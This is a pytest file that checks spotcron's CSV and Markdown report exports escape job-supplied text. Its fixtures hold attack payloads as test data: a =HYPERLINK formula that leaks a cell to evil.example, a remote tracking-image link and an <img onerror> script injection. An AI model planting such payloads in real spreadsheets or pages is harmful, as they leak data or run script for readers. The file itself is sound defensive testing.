"""Job-written text in `spotcron report --format csv|csv-runs|md`: never a formula, link or image.

Before: a work unit or hardware string such as `=HYPERLINK(...)` landed verbatim in the CSV
exports, and the same text became a live link or a remote image in Markdown.
"""

from __future__ import annotations

import csv
import io
import json
import re

import pytest

from spotcron.core.hardware import Hardware
from spotcron.core.loader import load_job_file
from spotcron.core.spec import Benchmark
from spotcron.cost.prices import load_prices
from spotcron.present import exports
from spotcron.present.neutral import csv_cell, md_text
from spotcron.present.report import benchmark_report
from tests.examples import example
from tests.present.test_report import bench_run

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
IMAGE = "![x](https://evil.example/pixel.png) <img src=x onerror=alert(1)> [link](http://evil.example) www.evil.example"


@pytest.fixture(scope="module")
def report():
    spec = load_job_file(example("dl-benchmark"))
    spec = spec.model_copy(update={"benchmark": Benchmark(base="highcpu-16", time_metric="train_seconds")})
    hostile = Hardware(machine_type="n1-highcpu-16", zone="us-central1-a", cpu_model=FORMULA, cpus=16,
                       memory_mib=14700)

    def metrics(seconds: float, unit: str) -> str:
        return json.dumps({"work": {"value": 100, "unit": unit},
                           "metrics": {"train_seconds": {"value": seconds, "unit": "s"}}})

    # Units are held to 32 printable characters (core/metrics.py): still room for a formula or an image.
    runs = [bench_run("highcpu-16", 900, 0, repeat=i, metrics=metrics(800 + i, '=HYPERLINK("http://e.x")')).model_copy(
        update={"hardware": hostile}) for i in (1, 2, 3)]
    runs += [bench_run("t4", 300, 0, repeat=i, metrics=metrics(250 + i, "![x](https://e.x/p.png)")).model_copy(
        update={"hardware": hostile.model_copy(update={"cpu_model": IMAGE})}) for i in (1, 2, 3)]
    return benchmark_report("dl-benchmark", runs, load_prices(), "us-central1", spec=spec)


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("export", ["csv_text", "runs_csv"])
def test_no_csv_cell_starts_a_formula(report, export):
    cells = _cells(getattr(exports, export)(report))
    assert any("HYPERLINK" in cell for cell in cells)  # the text is kept, as text
    assert not [cell for cell in cells if cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_markdown_has_no_live_link_image_or_html(report):
    md = exports.markdown(report)
    # What a Markdown renderer would still read as markup once every escaped character is text.
    unescaped = re.sub(r"\\.", "_", md)
    for markup in ("![", "](", "<img", "<", "://", "www."):
        assert markup not in unescaped, markup
    assert "evil.example" in md  # kept, inert


def test_the_rules():
    assert csv_cell("=1+1") == "'=1+1" and csv_cell(" @SUM(A1)") == "' @SUM(A1)" and csv_cell("\t=x") == "'\t=x"
    assert csv_cell("-2") == "'-2" and csv_cell(-2) == -2 and csv_cell("samples") == "samples"
    assert md_text("a|b\nc") == "a\\|b c"
    assert md_text("# title", line=True) == "\\# title" and md_text("**bold** `code` ~s~") == \
        "\\*\\*bold\\*\\* \\`code\\` \\~s\\~"
